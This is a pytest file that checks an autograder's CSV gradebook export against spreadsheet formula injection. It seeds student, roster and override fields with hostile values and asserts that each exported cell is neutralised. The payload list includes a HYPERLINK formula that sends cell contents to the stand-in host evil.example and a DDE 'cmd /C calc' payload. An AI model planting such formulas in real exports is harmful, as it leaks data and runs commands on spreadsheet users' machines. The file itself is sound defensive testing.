"""CSV formula injection: every text cell of every exported CSV is inert, whichever field carried it.

A student controls their name, their file names (which become result keys and otter's ``file``), and
through the batch the texts of notes; an instructor's roster and overrides pass through too. None of it
may start a formula in a spreadsheet: a leading ``= + - @``, tab or carriage return gets a ``'``.
"""
from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pandas as pd
import pytest

from autograder.output.gradebook import write_gradebook
from autograder.output.policy import GradingPolicy

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from result_fixtures import copy_results, fixture_result, write  # noqa: E402

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def exported_cells(folder: Path) -> dict[str, list[str]]:
    return {path.name: [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
                        for cell in row]
            for path in folder.glob("*.csv")}


def test_hostile_text_in_any_field_never_starts_a_formula(tmp_path, assignment):
    results = copy_results(tmp_path / "RESULTS", assignment, ["a001-complete"])
    for number, payload in enumerate(PAYLOADS):
        hostile = fixture_result("a002-partial")
        hostile["submission"].update(student_id=f"{payload}{number}", student_name=payload,
                                     submitted_name=f"{payload}.ipynb", canvas_id=payload,
                                     submitted_at="")
        hostile["reason"] = payload
        write(results, f"h{number}", hostile, assignment)
    roster = pd.DataFrame({"student_id": ["A001", "A404"], "name": ["Ada", PAYLOADS[0]],
                           "email": ["", ""], "canvas_id": ["", "=1+1"], "login": ["@ada", "-x"],
                           "section": ["=S1", "+S2"]})
    overrides = pd.DataFrame({"student_id": ["A001"], "question": ["q1"], "score": ["9"],
                              "reason": ['=HYPERLINK("http://evil.example")']})
    write_gradebook(results, tmp_path / "out" / "gradebook.csv", assignment,
                    GradingPolicy(roster=roster, overrides=overrides, canvas_assignment_id="=1"))
    cells = exported_cells(tmp_path / "out")
    assert set(cells) == {"gradebook.csv", "final_grades.csv", "canvas_grades.csv"}
    for name, values in cells.items():
        live = [v for v in values if v.startswith(FORMULA_STARTS) and set(v) != {"-"}]  # otter's "--" is inert
        assert not live, (name, live)
    everything = "".join("".join(values) for values in cells.values())
    for payload in PAYLOADS:  # kept readable, only made inert
        assert "'" + payload.strip("\t\r") in everything or payload.strip("\t\r") in everything
    assert "'" + PAYLOADS[0] + ".ipynb" in cells["final_grades.csv"]  # the file name, otter's `file`
    assert "'=S1" in cells["canvas_grades.csv"] and "'@ada" in cells["canvas_grades.csv"]
    assert any(v.startswith("'") and "evil.example" in v for v in cells["gradebook.csv"])  # override note
